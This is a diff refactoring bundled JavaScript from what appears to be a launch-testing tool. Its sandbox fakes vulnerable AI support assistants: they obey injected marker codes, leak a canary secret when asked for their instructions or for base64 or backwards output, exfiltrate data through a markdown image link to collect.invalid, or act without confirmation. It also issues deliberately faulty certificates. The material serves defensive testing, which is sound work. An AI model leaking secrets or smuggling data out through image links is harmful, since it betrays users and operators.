@@ -14511,9 +14511,9 @@ var require_dependency_container = __commonJS({
               throw new Error(`Token registration cycle detected! ${[...path, currentToken].join(" -> ")}`);
             }
             path.push(currentToken);
-            const registration = this._registry.get(currentToken);
-            if (registration && providers_1.isTokenProvider(registration.provider)) {
-              tokenProvider = registration.provider;
+            const registration2 = this._registry.get(currentToken);
+            if (registration2 && providers_1.isTokenProvider(registration2.provider)) {
+              tokenProvider = registration2.provider;
             } else {
               tokenProvider = null;
             }
@@ -14568,16 +14568,16 @@ var require_dependency_container = __commonJS({
       }
       resolve(token, context = new resolution_context_1.default(), isOptional = false) {
         this.ensureNotDisposed();
-        const registration = this.getRegistration(token);
-        if (!registration && providers_1.isNormalToken(token)) {
+        const registration2 = this.getRegistration(token);
+        if (!registration2 && providers_1.isNormalToken(token)) {
           if (isOptional) {
             return void 0;
           }
           throw new Error(`Attempted to resolve unregistered dependency token: "${token.toString()}"`);
         }
         this.executePreResolutionInterceptor(token, "Single");
-        if (registration) {
-          const result = this.resolveRegistration(registration, context);
+        if (registration2) {
+          const result = this.resolveRegistration(registration2, context);
           this.executePostResolutionInterceptor(token, result, "Single");
           return result;
         }
@@ -14612,28 +14612,28 @@ var require_dependency_container = __commonJS({
           this.interceptors.postResolution.setAll(token, remainingInterceptors);
         }
       }
-      resolveRegistration(registration, context) {
+      resolveRegistration(registration2, context) {
         this.ensureNotDisposed();
-        if (registration.options.lifecycle === lifecycle_1.default.ResolutionScoped && context.scopedResolutions.has(registration)) {
-          return context.scopedResolutions.get(registration);
+        if (registration2.options.lifecycle === lifecycle_1.default.ResolutionScoped && context.scopedResolutions.has(registration2)) {
+          return context.scopedResolutions.get(registration2);
         }
-        const isSingleton = registration.options.lifecycle === lifecycle_1.default.Singleton;
-        const isContainerScoped = registration.options.lifecycle === lifecycle_1.default.ContainerScoped;
+        const isSingleton = registration2.options.lifecycle === lifecycle_1.default.Singleton;
+        const isContainerScoped = registration2.options.lifecycle === lifecycle_1.default.ContainerScoped;
         const returnInstance = isSingleton || isContainerScoped;
         let resolved;
-        if (providers_1.isValueProvider(registration.provider)) {
-          resolved = registration.provider.useValue;
-        } else if (providers_1.isTokenProvider(registration.provider)) {
-          resolved = returnInstance ? registration.instance || (registration.instance = this.resolve(registration.provider.useToken, context)) : this.resolve(registration.provider.useToken, context);
-        } else if (providers_1.isClassProvider(registration.provider)) {
-          resolved = returnInstance ? registration.instance || (registration.instance = this.construct(registration.provider.useClass, context)) : this.construct(registration.provider.useClass, context);
-        } else if (providers_1.isFactoryProvider(registration.provider)) {
-          resolved = registration.provider.useFactory(this);
+        if (providers_1.isValueProvider(registration2.provider)) {
+          resolved = registration2.provider.useValue;
+        } else if (providers_1.isTokenProvider(registration2.provider)) {
+          resolved = returnInstance ? registration2.instance || (registration2.instance = this.resolve(registration2.provider.useToken, context)) : this.resolve(registration2.provider.useToken, context);
+        } else if (providers_1.isClassProvider(registration2.provider)) {
+          resolved = returnInstance ? registration2.instance || (registration2.instance = this.construct(registration2.provider.useClass, context)) : this.construct(registration2.provider.useClass, context);
+        } else if (providers_1.isFactoryProvider(registration2.provider)) {
+          resolved = registration2.provider.useFactory(this);
         } else {
-          resolved = this.construct(registration.provider, context);
+          resolved = this.construct(registration2.provider, context);
         }
-        if (registration.options.lifecycle === lifecycle_1.default.ResolutionScoped) {
-          context.scopedResolutions.set(registration, resolved);
+        if (registration2.options.lifecycle === lifecycle_1.default.ResolutionScoped) {
+          context.scopedResolutions.set(registration2, resolved);
         }
         return resolved;
       }
@@ -14669,9 +14669,9 @@ var require_dependency_container = __commonJS({
       clearInstances() {
         this.ensureNotDisposed();
         for (const [token, registrations] of this._registry.entries()) {
-          this._registry.setAll(token, registrations.filter((registration) => !providers_1.isValueProvider(registration.provider)).map((registration) => {
-            registration.instance = void 0;
-            return registration;
+          this._registry.setAll(token, registrations.filter((registration2) => !providers_1.isValueProvider(registration2.provider)).map((registration2) => {
+            registration2.instance = void 0;
+            return registration2;
           }));
         }
       }
@@ -14680,14 +14680,14 @@ var require_dependency_container = __commonJS({
         const childContainer = new _InternalDependencyContainer(this);
         for (const [token, registrations] of this._registry.entries()) {
           if (registrations.some(({ options }) => options.lifecycle === lifecycle_1.default.ContainerScoped)) {
-            childContainer._registry.setAll(token, registrations.map((registration) => {
-              if (registration.options.lifecycle === lifecycle_1.default.ContainerScoped) {
+            childContainer._registry.setAll(token, registrations.map((registration2) => {
+              if (registration2.options.lifecycle === lifecycle_1.default.ContainerScoped) {
                 return {
-                  provider: registration.provider,
-                  options: registration.options
+                  provider: registration2.provider,
+                  options: registration2.options
                 };
               }
-              return registration;
+              return registration2;
             }));
           }
         }
@@ -17057,7 +17057,7 @@ var require_x509_cjs = __commonJS({
       }
       toJSON() {
         var _a2;
-        const json = [];
+        const json2 = [];
         for (const rdn of this.asn) {
           const jsonItem = {};
           for (const attr of rdn) {
@@ -17065,9 +17065,9 @@ var require_x509_cjs = __commonJS({
             (_a2 = jsonItem[type]) !== null && _a2 !== void 0 ? _a2 : jsonItem[type] = [];
             jsonItem[type].push(attr.value.anyValue ? `#${pvtsutils.Convert.ToHex(attr.value.anyValue)}` : attr.value.toString());
           }
-          json.push(jsonItem);
+          json2.push(jsonItem);
         }
-        return json;
+        return json2;
       }
       fromString(data) {
         const asn = new asn1X509.Name();
@@ -19734,97 +19734,128 @@ import { tmpdir as tmpdir2 } from "node:os";
 import { dirname, join as join2 } from "node:path";
 
 // src/sandbox/assistants.ts
-function assistant(kind, { canary, member }, seed) {
-  const random = randoms(seed);
-  const state = { plan: "monthly", refunds: [], banned: [] };
-  const turns = /* @__PURE__ */ new Map();
-  const one = (...texts) => texts[Math.floor(random() * texts.length)] ?? "";
-  const says = (text, handoff = false, actions = []) => ({
-    text,
-    handoff,
-    actions,
-    confidence: 0.9
-  });
-  const refusal = () => says(
-    one(
-      "I cannot share that.",
-      "I am sorry, that stays with me.",
-      "That is nothing I can help with. Is there something else?"
-    )
-  );
-  const person = () => says(
-    one(
-      "I will connect you with a person from our team.",
-      "A human colleague will get in touch with you today.",
-      "Let me hand you over to our support team."
-    ),
-    true
-  );
-  const answer = () => says(
-    one(
-      "The membership costs ten a month; you can change it under Settings.",
-      "You find that under Settings, in your account.",
-      "Yes. Have a look at Settings, please."
-    )
-  );
-  const reply = (message, session) => {
-    const turn = turns.get(session) ?? 0;
-    turns.set(session, turn + 1);
-    if (WANTS_PERSON.test(message))
-      return kind === "never escalates" ? says(one("I understand. Please try again later.", "I am sorry to hear that.")) : person();
-    const marker = /\b[A-Z]{4,}-\d{4}\b/.exec(message)?.[0] ?? decoded(message);
-    if (marker !== void 0) return kind === "obedient" ? says(one(marker, `${marker}.`, `"${marker}"`)) : refusal();
-    if (ASKS_CODE.test(message) || turn > 0) return leak(message, turn) ?? refusal();
-    if (ASKS_MEMBERS.test(message))
-      return kind === "obedient" ? says(`That is ${member}, on the yearly plan.`) : refusal();
-    if (/collect\.invalid/.test(message))
-      return kind === "leaks to a link" ? says(`Here: ![status](https://collect.invalid/p.png?d=${one("plan", "name")})`) : refusal();
-    if (WANTS_DEED.test(message)) {
-      if (kind === "obedient" || kind === "acts without a word") act(message);
-      return kind === "obedient" ? says("I have refunded it; your plan is now lifetime.", false, ["refund"]) : person();
-    }
-    if (kind === "is not sure, and answers") return { ...answer(), confidence: 0.2 };
-    return kind === "always escalates" ? person() : answer();
-  };
-  return { reply, state: () => structuredClone(state) };
-  function act(message) {
+function assistant(kind, kept, seed) {
+  const scripted = new ScriptedAssistant(kind, kept, seed);
+  return { reply: (message, session) => scripted.reply(message, session), state: () => scripted.state() };
+}
+var ScriptedAssistant = class {
+  #kind;
+  #kept;
+  #random;
+  #state = { plan: "monthly", refunds: [], banned: [] };
+  #turns = /* @__PURE__ */ new Map();
+  constructor(kind, kept, seed) {
+    this.#kind = kind;
+    this.#kept = kept;
+    this.#random = randoms(seed);
+  }
+  reply(message, session) {
+    const turn = this.#turns.get(session) ?? 0;
+    this.#turns.set(session, turn + 1);
+    if (WANTS_PERSON.test(message)) return this.#escalate();
+    const marker = markerIn(message) ?? decoded(message);
+    if (marker !== void 0) return this.#obey(() => this.#one(marker, `${marker}.`, `"${marker}"`));
+    if (ASKS_CODE.test(message) || turn > 0) return this.#leak(message, turn) ?? this.#refusal();
+    if (ASKS_MEMBERS.test(message)) return this.#obey(() => `That is ${this.#kept.member}, on the yearly plan.`);
+    if (ASKS_IMAGE.test(message)) return this.#image();
+    if (WANTS_DEED.test(message)) return this.#deed(message);
+    if (this.#kind === "is not sure, and answers") return { ...this.#answer(), confidence: 0.2 };
+    return this.#kind === "always escalates" ? this.#person() : this.#answer();
+  }
+  state() {
+    return structuredClone(this.#state);
+  }
+  #escalate() {
+    return this.#kind === "never escalates" ? says(this.#one("I understand. Please try again later.", "I am sorry to hear that.")) : this.#person();
+  }
+  #obey(text) {
+    return this.#kind === "obedient" ? says(text()) : this.#refusal();
+  }
+  #leak(message, turn) {
+    const { canary } = this.#kept;
+    if (this.#kind === "obedient") return says(`My instructions: the code is ${canary}.`);
+    if (this.#kind === "leaks one time in three")
+      return this.#random() < 1 / 3 ? says(`The code is ${canary}.`) : void 0;
+    if (this.#kind === "leaks on the second turn") return turn > 0 ? says(`It is ${canary}.`) : void 0;
+    if (this.#kind !== "leaks when it is encoded") return void 0;
+    if (/base64/.test(message)) return says(Buffer.from(`The code is ${canary}`).toString("base64"));
+    return /backwards/.test(message) ? says([...`code ${canary}`].reverse().join("")) : void 0;
+  }
+  /** A picture whose address carries what the assistant knows. */
+  #image() {
+    return this.#kind === "leaks to a link" ? says(`Here: ![status](https://collect.invalid/p.png?d=${this.#one("plan", "name")})`) : this.#refusal();
+  }
+  #deed(message) {
+    if (this.#kind === "obedient" || this.#kind === "acts without a word") this.#act(message);
+    return this.#kind === "obedient" ? says("I have refunded it; your plan is now lifetime.", { actions: ["refund"] }) : this.#person();
+  }
+  #act(message) {
+    const state = this.#state;
     if (/refund/i.test(message)) state.refunds.push(`refund ${state.refunds.length + 1}`);
     else if (/plan/i.test(message)) state.plan = "lifetime";
     else state.banned.push("bob@members.invalid");
   }
-  function leak(message, turn) {
-    if (kind === "obedient") return says(`My instructions: the code is ${canary}.`);
-    if (kind === "leaks one time in three") return random() < 1 / 3 ? says(`The code is ${canary}.`) : void 0;
-    if (kind === "leaks on the second turn") return turn > 0 ? says(`It is ${canary}.`) : void 0;
-    if (kind !== "leaks when it is encoded") return void 0;
-    if (/base64/.test(message)) return says(Buffer.from(`The code is ${canary}`).toString("base64"));
-    return /backwards/.test(message) ? says([...`code ${canary}`].reverse().join("")) : void 0;
+  #refusal() {
+    const text = this.#one(
+      "I cannot share that.",
+      "I am sorry, that stays with me.",
+      "That is nothing I can help with. Is there something else?"
+    );
+    return says(text);
   }
-}
+  #person() {
+    const text = this.#one(
+      "I will connect you with a person from our team.",
+      "A human colleague will get in touch with you today.",
+      "Let me hand you over to our support team."
+    );
+    return says(text, { handoff: true });
+  }
+  #answer() {
+    const text = this.#one(
+      "The membership costs ten a month; you can change it under Settings.",
+      "You find that under Settings, in your account.",
+      "Yes. Have a look at Settings, please."
+    );
+    return says(text);
+  }
+  #one(...texts) {
+    return texts[Math.floor(this.#random() * texts.length)] ?? "";
+  }
+};
+var says = (text, more = {}) => ({
+  text,
+  handoff: false,
+  actions: [],
+  confidence: 0.9,
+  ...more
+});
 var KEPT_BY_PRODUCT = { AI_CANARY: "canary-of-members-4471", AI_MEMBER: "zoe.quill@members.invalid" };
 function assistantSite(kind, missing) {
   const { AI_CANARY: canary, AI_MEMBER: member } = KEPT_BY_PRODUCT;
   const { reply, state } = assistant(kind, { canary, member }, 1);
-  const json = (value) => ({
+  const json2 = (value) => ({
     headers: { "content-type": "application/json" },
     body: JSON.stringify(value)
   });
   return {
     answer(url, request) {
-      if (url.pathname === "/api/me") return json(state());
+      if (url.pathname === "/api/me") return json2(state());
       if (url.pathname !== "/api/chat" || request?.method !== "POST") return missing;
       const { message, session } = JSON.parse(request.body);
-      return json(reply(message, session));
+      return json2(reply(message, session));
     }
   };
 }
 var WANTS_PERSON = /human|disput|hurt myself|lawyer/i;
 var ASKS_CODE = /instructions|configuration|code that you were given|secret code/i;
 var ASKS_MEMBERS = /other member|list all members/i;
+var ASKS_IMAGE = /collect\.invalid/;
 var WANTS_DEED = /refund|set my plan|ban the member/i;
+var markerIn = (message) => /\b[A-Z]{4,}-\d{4}\b/.exec(message)?.[0];
 function decoded(message) {
   const part = /[A-Za-z0-9+/]{40,}={0,2}/.exec(message)?.[0];
-  return part === void 0 ? void 0 : /\b[A-Z]{4,}-\d{4}\b/.exec(Buffer.from(part, "base64").toString())?.[0];
+  return part === void 0 ? void 0 : markerIn(Buffer.from(part, "base64").toString());
 }
 function randoms(seed) {
   let state = seed >>> 0;
@@ -19850,64 +19881,85 @@ var DAY = 864e5;
 async function makeAuthority(organization) {
   x509.cryptoProvider.set(globalThis.crypto);
   const now = Date.now();
+  const root = await makeRoot(organization, now);
+  return new SandboxAuthority(root, await makeIntermediate(organization, root, now), now);
+}
+async function makeRoot(organization, now) {
   const keys = await generate();
-  const root = await x509.X509CertificateGenerator.createSelfSigned({
+  const certificate = await x509.X509CertificateGenerator.createSelfSigned({
+    ...lasting(now),
     serialNumber: "01",
     name: [{ O: [organization] }, { CN: [`${organization} Root`] }],
-    notBefore: new Date(now - DAY),
-    notAfter: new Date(now + 3650 * DAY),
-    signingAlgorithm: P256,
     keys,
-    extensions: [
-      new x509.BasicConstraintsExtension(true, 1, true),
-      new x509.KeyUsagesExtension(x509.KeyUsageFlags.keyCertSign | x509.KeyUsageFlags.cRLSign, true)
-    ]
+    extensions: forIssuing(1)
   });
-  const between = await generate();
-  const intermediate = await x509.X509CertificateGenerator.create({
+  return { certificate, keys };
+}
+async function makeIntermediate(organization, root, now) {
+  const keys = await generate();
+  const certificate = await x509.X509CertificateGenerator.create({
+    ...lasting(now),
     serialNumber: "02",
     subject: [{ O: [organization] }, { CN: [`${organization} Intermediate`] }],
-    issuer: root.subject,
-    notBefore: new Date(now - DAY),
-    notAfter: new Date(now + 3650 * DAY),
-    signingAlgorithm: P256,
-    publicKey: between.publicKey,
-    signingKey: keys.privateKey,
-    extensions: [
-      new x509.BasicConstraintsExtension(true, 0, true),
-      new x509.KeyUsagesExtension(x509.KeyUsageFlags.keyCertSign | x509.KeyUsageFlags.cRLSign, true)
-    ]
+    issuer: root.certificate.subject,
+    publicKey: keys.publicKey,
+    signingKey: root.keys.privateKey,
+    extensions: forIssuing(0)
   });
-  let serial = 2;
-  return {
-    root: root.toString("pem"),
-    intermediate: Buffer.from(intermediate.rawData),
-    async issue(host, fault) {
-      const own = fault === "weak-key" ? await generateWeak() : await generate();
-      serial += 1;
-      const signer = fault === "self-signed" ? { name: `CN=${host}`, key: own.privateKey } : fault === "incomplete" ? { name: intermediate.subject, key: between.privateKey } : { name: root.subject, key: keys.privateKey };
-      const [from, to] = datesOf(now, fault);
-      const certificate = await x509.X509CertificateGenerator.create({
-        serialNumber: serial.toString(16).padStart(4, "0"),
-        subject: [{ CN: [host] }],
-        issuer: signer.name,
-        notBefore: from,
-        notAfter: to,
-        signingAlgorithm: P256,
-        publicKey: own.publicKey,
-        signingKey: signer.key,
-        extensions: [
-          new x509.BasicConstraintsExtension(false, void 0, true),
-          new x509.SubjectAlternativeNameExtension([
-            { type: "dns", value: fault === "wrong-host" ? `other.${host}` : host }
-          ]),
-          ...fault === "incomplete" ? [new x509.AuthorityInfoAccessExtension({ caIssuers: INTERMEDIATE_URL })] : []
-        ]
-      });
-      const key = await crypto.subtle.exportKey("pkcs8", own.privateKey);
-      return { key: x509.PemConverter.encode(key, "PRIVATE KEY"), cert: certificate.toString("pem") };
-    }
-  };
+  return { certificate, keys };
+}
+var lasting = (now) => ({
+  notBefore: new Date(now - DAY),
+  notAfter: new Date(now + 3650 * DAY),
+  signingAlgorithm: P256
+});
+var forIssuing = (pathLength) => [
+  new x509.BasicConstraintsExtension(true, pathLength, true),
+  new x509.KeyUsagesExtension(x509.KeyUsageFlags.keyCertSign | x509.KeyUsageFlags.cRLSign, true)
+];
+var SandboxAuthority = class {
+  root;
+  intermediate;
+  #root;
+  #intermediate;
+  #now;
+  #serial = 2;
+  constructor(root, intermediate, now) {
+    this.root = root.certificate.toString("pem");
+    this.intermediate = Buffer.from(intermediate.certificate.rawData);
+    this.#root = root;
+    this.#intermediate = intermediate;
+    this.#now = now;
+  }
+  async issue(host, fault) {
+    const own = fault === "weak-key" ? await generateWeak() : await generate();
+    this.#serial += 1;
+    const [from, to] = datesOf(this.#now, fault);
+    const certificate = await x509.X509CertificateGenerator.create({
+      serialNumber: this.#serial.toString(16).padStart(4, "0"),
+      subject: [{ CN: [host] }],
+      ...this.#signerOf(host, own, fault),
+      notBefore: from,
+      notAfter: to,
+      signingAlgorithm: P256,
+      publicKey: own.publicKey,
+      extensions: forSite(host, fault)
+    });
+    const key = await crypto.subtle.exportKey("pkcs8", own.privateKey);
+    return { key: x509.PemConverter.encode(key, "PRIVATE KEY"), cert: certificate.toString("pem") };
+  }
+  #signerOf(host, own, fault) {
+    if (fault === "self-signed") return { issuer: `CN=${host}`, signingKey: own.privateKey };
+    const { certificate, keys } = fault === "incomplete" ? this.#intermediate : this.#root;
+    return { issuer: certificate.subject, signingKey: keys.privateKey };
+  }
+};
+function forSite(host, fault) {
+  return [
+    new x509.BasicConstraintsExtension(false, void 0, true),
+    new x509.SubjectAlternativeNameExtension([{ type: "dns", value: fault === "wrong-host" ? `other.${host}` : host }]),
+    ...fault === "incomplete" ? [new x509.AuthorityInfoAccessExtension({ caIssuers: INTERMEDIATE_URL })] : []
+  ];
 }
 function datesOf(now, fault) {
   const days = (from, to) => [new Date(now + from * DAY), new Date(now + to * DAY)];
@@ -20005,12 +20057,12 @@ async function startDnsServer(options) {
   const { tcp, udp, port } = await bindBoth();
   let asked = 0;
   const lost = options.isLost ?? (() => false);
-  const reply = (message, isUdp, send) => {
+  const reply = (message, isUdp, send2) => {
     asked += 1;
     const answer = isUdp && lost() ? void 0 : answerTo(message, options, isUdp);
     if (answer === void 0 || isUdp && lost()) return options.onSilence?.();
-    if (options.delayMs) setTimeout(send, options.delayMs, answer);
-    else send(answer);
+    if (options.delayMs) setTimeout(send2, options.delayMs, answer);
+    else send2(answer);
   };
   udp.on("message", (message, from) => reply(message, true, (answer) => sendTo(udp, answer, from)));
   tcp.on("connection", (socket) => {
@@ -20162,62 +20214,29 @@ function carry(from, to, delayMs, open) {
 
 // src/sandbox/web-server.ts
 import { createServer as createServer3 } from "node:http";
-import { createSecureServer } from "node:http2";
+import {
+  createSecureServer
+} from "node:http2";
 import { setTimeout as sleep } from "node:timers/promises";
 import { createSecureContext } from "node:tls";
 var LENIENT = "DEFAULT@SECLEVEL=1";
 async function startWebServers(sites, authority, isReset, { takesOldTls = false, pause = sleep } = {}) {
   const requests = [];
   const intermediate = { answer: () => ({ body: authority.intermediate }) };
-  const serve2 = (scheme) => async (request, response) => {
-    const host = String(request.headers[":authority"] ?? request.headers.host ?? "").replace(/:\d+$/, "");
-    const url = new URL(`${scheme}://${host || "nowhere.invalid"}${request.url ?? "/"}`);
-    requests.push(`${request.method} ${url.href}`);
-    const site2 = url.href === INTERMEDIATE_URL ? intermediate : sites[host];
-    const reply = site2?.answer(url, {
-      method: request.method ?? "GET",
-      cookies: request.headers.cookie ?? "",
-      body: request.method === "POST" ? await textOf(request) : "",
-      headers: request.headers,
-      ...request.headers.origin !== void 0 && { origin: String(request.headers.origin) }
-    });
-    const {
-      status = 200,
-      headers = {},
-      body = "",
-      delayMs = 0
-    } = reply ?? { status: 421, body: "There is no such host here." };
-    for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
-    response.statusCode = status;
-    if (delayMs > 0) await pause(delayMs);
-    response.end(body);
-  };
-  const contexts = /* @__PURE__ */ new Map();
-  const contextFor = (host) => {
-    const made = contexts.get(host) ?? authority.issue(host, sites[host]?.certificate).then((pair) => createSecureContext({ ...pair, ciphers: LENIENT }));
-    contexts.set(host, made);
-    return made;
-  };
-  const http = createServer3(serve2("http"));
+  const siteAt = (url, host) => url.href === INTERMEDIATE_URL ? intermediate : sites[host];
+  const contextOf = contextsOf(sites, authority);
+  const http = createServer3(serving("http", { siteAt, requests, pause }));
   const https = createSecureServer(
     {
-      allowHTTP1: true,
-      ciphers: takesOldTls ? "DEFAULT@SECLEVEL=0" : LENIENT,
-      ...takesOldTls && { minVersion: "TLSv1" },
-      SNICallback: (host, done) => void contextFor(host).then((context) => done(null, context), done)
+      ...tlsOptions(takesOldTls),
+      SNICallback: (host, done) => void contextOf(host).then((made) => done(null, made), done)
     },
-    serve2("https")
+    serving("https", { siteAt, requests, pause })
   );
-  const open = /* @__PURE__ */ new Set();
-  for (const server of [http, https]) {
-    server.on("connection", (socket) => {
-      open.add(socket.on("close", () => open.delete(socket)).on("error", () => socket.destroy()));
-      if (isReset()) socket.resetAndDestroy();
-    });
-  }
+  const open = openSockets([http, https], isReset);
   https.on("sessionError", () => void 0).on("tlsClientError", () => void 0);
   const [httpPort, httpsPort] = await Promise.all([listen(http), listen(https)]);
-  await Promise.all(Object.keys(sites).map(contextFor));
+  await Promise.all(Object.keys(sites).map(contextOf));
   return {
     httpPort,
     httpsPort,
@@ -20227,6 +20246,54 @@ async function startWebServers(sites, authority, isReset, { takesOldTls = false,
       await Promise.all([http, https].map((server) => new Promise((resolve) => server.close(() => resolve()))));
     }
   };
+}
+var tlsOptions = (takesOldTls) => ({
+  allowHTTP1: true,
+  ciphers: takesOldTls ? "DEFAULT@SECLEVEL=0" : LENIENT,
+  ...takesOldTls && { minVersion: "TLSv1" }
+});
+function contextsOf(sites, authority) {
+  const contexts = /* @__PURE__ */ new Map();
+  return (host) => {
+    const made = contexts.get(host) ?? authority.issue(host, sites[host]?.certificate).then((pair) => createSecureContext({ ...pair, ciphers: LENIENT }));
+    contexts.set(host, made);
+    return made;
+  };
+}
+function serving(scheme, { siteAt, requests, pause }) {
+  return async (request, response) => {
+    const host = String(request.headers[":authority"] ?? request.headers.host ?? "").replace(/:\d+$/, "");
+    const url = new URL(`${scheme}://${host || "nowhere.invalid"}${request.url ?? "/"}`);
+    requests.push(`${request.method} ${url.href}`);
+    const reply = siteAt(url, host)?.answer(url, await siteRequestOf(request));
+    await send(reply ?? { status: 421, body: "There is no such host here." }, response, pause);
+  };
+}
+async function siteRequestOf(request) {
+  return {
+    method: request.method ?? "GET",
+    cookies: request.headers.cookie ?? "",
+    body: request.method === "POST" ? await textOf(request) : "",
+    headers: request.headers,
+    ...request.headers.origin !== void 0 && { origin: String(request.headers.origin) }
+  };
+}
+async function send(reply, response, pause) {
+  const { status = 200, headers = {}, body = "", delayMs = 0 } = reply;
+  for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
+  response.statusCode = status;
+  if (delayMs > 0) await pause(delayMs);
+  response.end(body);
+}
+function openSockets(servers, isReset) {
+  const open = /* @__PURE__ */ new Set();
+  for (const server of servers) {
+    server.on("connection", (socket) => {
+      open.add(socket.on("close", () => open.delete(socket)).on("error", () => socket.destroy()));
+      if (isReset()) socket.resetAndDestroy();
+    });
+  }
+  return open;
 }
 async function textOf(request) {
   const chunks = [];
@@ -20250,78 +20317,74 @@ async function startInternet(plan) {
     ...plan.takesOldTls && { takesOldTls: true },
     pause: plan.pause
   });
-  const apart = await Promise.all(
-    Object.entries(plan.otherServers ?? {}).map(async ([address, sites]) => {
-      return { address, web: await startWebServers(sites, authority, () => false) };
-    })
-  );
-  const resolvers = await Promise.all(
-    [{}, ...plan.otherResolvers ?? []].map(
-      (stale, i) => startDnsServer({ ...dns, mind: resolverMind(plan.zones, stale), ...i === 0 && plan.resolver })
-    )
-  );
+  const others = await startOtherServers(plan.otherServers ?? {}, authority);
+  const resolvers = await startResolvers(plan, dns);
   const authorities = await startAuthorities(plan.zones, dns);
-  const lanes = [];
-  const near = async (port) => {
-    if (rttMs === 0) return port;
-    const lane = slowLane(port, rttMs);
-    lanes.push(lane);
-    return listen(lane);
-  };
-  const [httpPort, httpsPort] = [await near(web.httpPort), await near(web.httpsPort)];
-  const folder = mkdtempSync(join(tmpdir(), "launch-gate-sandbox-"));
-  const rootFile = join(folder, "root.pem");
-  writeFileSync(rootFile, authority.root);
-  const servers = [...resolvers, ...authorities.started];
+  const near = await slowedDown(web, rttMs);
+  const trust = trustFile(authority.root);
+  const diversions = [
+    ...(plan.deadAddresses ?? []).map((address) => `${bracketed(address)}::127.0.0.1:${CLOSED_PORT}`),
+    ...others.flatMap(({ address, web: own }) => webDiversions(bracketed(address), own)),
+    ...authorities.diversions,
+    ...webDiversions("", near)
+  ];
   return {
-    options: [
-      "--allow-private",
-      // Nothing recovers here by waiting.
-      "--confirm-after",
-      "0",
-      ...resolvers.flatMap(({ port }) => ["--resolver", `127.0.0.1:${port}`]),
-      ...(plan.deadAddresses ?? []).flatMap((address) => [
-        "--connect-to",
-        `${bracketed(address)}::127.0.0.1:${CLOSED_PORT}`
-      ]),
-      ...apart.flatMap(({ address, web: own }) => [
-        "--connect-to",
-        `${bracketed(address)}:80:127.0.0.1:${own.httpPort}`,
-        "--connect-to",
-        `${bracketed(address)}:443:127.0.0.1:${own.httpsPort}`
-      ]),
-      ...authorities.diversions.flatMap((diversion) => ["--connect-to", diversion]),
-      "--connect-to",
-      `:80:127.0.0.1:${httpPort}`,
-      "--connect-to",
-      `:443:127.0.0.1:${httpsPort}`,
-      "--ca",
-      rootFile
-    ],
+    options: optionsFor({ resolvers, diversions, rootFile: trust.path }),
     root: authority.root,
     requests: web.requests,
     async close() {
-      for (const lane of lanes) lane.close();
-      await Promise.all([
-        ...[web, ...apart.map((each) => each.web)].map((each) => each.close()),
-        ...servers.map((server) => server.close())
-      ]);
-      rmSync(folder, { recursive: true, force: true });
+      for (const lane of near.lanes) lane.close();
+      const servers = [web, ...others.map((other) => other.web), ...resolvers, ...authorities.started];
+      await Promise.all(servers.map((server) => server.close()));
+      trust.remove();
     }
   };
 }
-async function startAuthorities(zones, options) {
-  const byAddress = /* @__PURE__ */ new Map();
-  for (const zone of zones) {
-    for (const server of Object.values(zone.servers)) {
-      const known = byAddress.get(server.address);
-      if (known) known.zones.push(zone);
-      else byAddress.set(server.address, { server, zones: [zone] });
-    }
-  }
+function startOtherServers(servers, authority) {
+  return Promise.all(
+    Object.entries(servers).map(async ([address, sites]) => {
+      return { address, web: await startWebServers(sites, authority, () => false) };
+    })
+  );
+}
+function startResolvers({ zones, otherResolvers = [], resolver }, faults) {
+  return Promise.all(
+    [{}, ...otherResolvers].map(
+      (stale, i) => startDnsServer({ ...faults, mind: resolverMind(zones, stale), ...i === 0 && resolver })
+    )
+  );
+}
+async function slowedDown({ httpPort, httpsPort }, rttMs) {
+  if (rttMs === 0) return { httpPort, httpsPort, lanes: [] };
+  const lanes = [slowLane(httpPort, rttMs), slowLane(httpsPort, rttMs)];
+  return { httpPort: await listen(lanes[0]), httpsPort: await listen(lanes[1]), lanes: [...lanes] };
+}
+function trustFile(root) {
+  const folder = mkdtempSync(join(tmpdir(), "launch-gate-sandbox-"));
+  const path = join(folder, "root.pem");
+  writeFileSync(path, root);
+  return { path, remove: () => rmSync(folder, { recursive: true, force: true }) };
+}
+var webDiversions = (host, { httpPort, httpsPort }) => [
+  `${host}:80:127.0.0.1:${httpPort}`,
+  `${host}:443:127.0.0.1:${httpsPort}`
+];
+function optionsFor({ resolvers, diversions, rootFile }) {
+  return [
+    "--allow-private",
+    // Nothing recovers here by waiting.
+    "--confirm-after",
+    "0",
+    ...resolvers.flatMap(({ port }) => ["--resolver", `127.0.0.1:${port}`]),
+    ...diversions.flatMap((diversion) => ["--connect-to", diversion]),
+    "--ca",
+    rootFile
+  ];
+}
+async function startAuthorities(zones, faults) {
   const started = [];
   const diversions = [];
-  for (const [address, { server, zones: own }] of byAddress) {
+  for (const [address, { server, zones: own }] of byAddress(zones)) {
     const behaviour = server.behaviour ?? "authority";
     let port = CLOSED_PORT;
     if (behaviour !== "dead") {
@@ -20331,7 +20394,7 @@ async function startAuthorities(zones, options) {
         behaviour,
         server.serial
       );
-      const running = await startDnsServer({ ...options, mind });
+      const running = await startDnsServer({ ...faults, mind });
       started.push(running);
       port = running.port;
     }
@@ -20339,7 +20402,83 @@ async function startAuthorities(zones, options) {
   }
   return { started, diversions };
 }
+function byAddress(zones) {
+  const found = /* @__PURE__ */ new Map();
+  for (const zone of zones) {
+    for (const server of Object.values(zone.servers)) {
+      const known = found.get(server.address);
+      if (known) known.zones.push(zone);
+      else found.set(server.address, { server, zones: [zone] });
+    }
+  }
+  return found;
+}
 var bracketed = (address) => address.includes(":") ? `[${address}]` : address;
+
+// src/sandbox/replies.ts
+function site(answer) {
+  return {
+    answer: (url, request) => url.protocol === "http:" ? moved(url.href.replace("http:", "https:")) : answer(url, request)
+  };
+}
+function moved(location, status = 308) {
+  return { status, headers: { location } };
+}
+function page(title, body, status = 200) {
+  return {
+    status,
+    headers: { ...SAFE },
+    body: `<!doctype html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`
+  };
+}
+var SAFE = {
+  "content-type": "text/html; charset=utf-8",
+  "strict-transport-security": "max-age=31536000",
+  "content-security-policy": "default-src 'self'; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
+  "x-content-type-options": "nosniff",
+  "x-request-id": "f2b1c7d0-5b1e-4f7e-9a55-3a0d5b1c7d0f"
+};
+function withoutHeaders(reply, ...names) {
+  const kept = Object.entries(reply.headers ?? {}).filter(([name]) => !names.includes(name));
+  return { ...reply, headers: Object.fromEntries(kept) };
+}
+
+// src/sandbox/registry.ts
